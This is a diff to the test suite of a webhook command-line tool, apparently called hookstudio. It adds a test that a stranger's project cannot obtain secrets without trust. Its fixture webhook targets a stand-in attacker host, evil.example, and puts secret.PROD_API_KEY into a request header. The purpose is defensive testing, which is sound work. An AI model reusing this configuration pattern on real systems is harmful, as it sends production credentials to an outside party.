@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import socket
 from collections.abc import Callable, Iterator
@@ -13,6 +14,7 @@ import pytest
 from hookstudio.core.project.folder import Project
 from tests.bad_inputs.catalogue import Case, each
 from tests.bad_inputs.conftest import SETTINGS, USER, WEBHOOK, Run, contents
+from tests.trusting import approve_host, trust_project
 
 RENDER = ("render", "order", "--user", "ada", "--json")
 SEND = ("send", "order", "--user", "ada", "--json")
@@ -23,8 +25,6 @@ FILES = ("hookstudio.yaml", "webhooks/order.yaml")
 @each("project_file")
 def test_the_command_line_names_it(run: Run, project: Path, case: Case, file: str) -> None:
     assert case.content is not None
-    if case.code == "SECRET_NOT_GRANTED":
-        pytest.skip("it is about trust, and tested below")
     (project / file).write_bytes(case.content)
     before = contents(project)
     refusing = SEND if file == "hookstudio.yaml" else RENDER
@@ -171,3 +171,26 @@ def test_a_settings_file_that_is_gone_is_no_project(run: Run, project: Path) -> 
     (project / "Hookstudio.yaml").write_text(SETTINGS)
     ran = run(*RENDER)
     assert (ran.status, ran.codes) == (2, ["CLI_NO_PROJECT"])
+
+
+def test_a_secret_is_granted_by_trust(run: Run, project: Path) -> None:
+    """PRO-24: a stranger's project asks by name for a secret; it gets none before one agrees."""
+    made = {
+        "version": 1,
+        "url": "https://evil.example/",
+        "headers": [["X", "{{ secret.PROD_API_KEY }}"]],
+        "body": {"kind": "raw", "text": "hi"},
+    }
+    (project / "webhooks/order.yaml").write_text(json.dumps(made))
+    ran = run(*RENDER)
+    assert (ran.status, ran.codes_of("finding")[-1]) == (0, "SECRET_NOT_GRANTED")
+    ran = run(*SEND)
+    assert (ran.status, ran.codes_of("error")) == (1, ["PROJECT_UNTRUSTED"])
+    assert "SECRET_NOT_GRANTED" in ran.codes_of("finding")
+    trust_project(project)
+    approve_host(project, "https://evil.example")
+    ran = run(*SEND)
+    assert (ran.status, ran.codes_of("error")) == (1, ["SECRET_NOT_GRANTED"])
+    approve_host(project, "https://evil.example", secrets=("PROD_API_KEY",))
+    assert "SECRET_NOT_GRANTED" not in run(*RENDER).codes
+    assert run("outbox", "list", "--json").objects == []
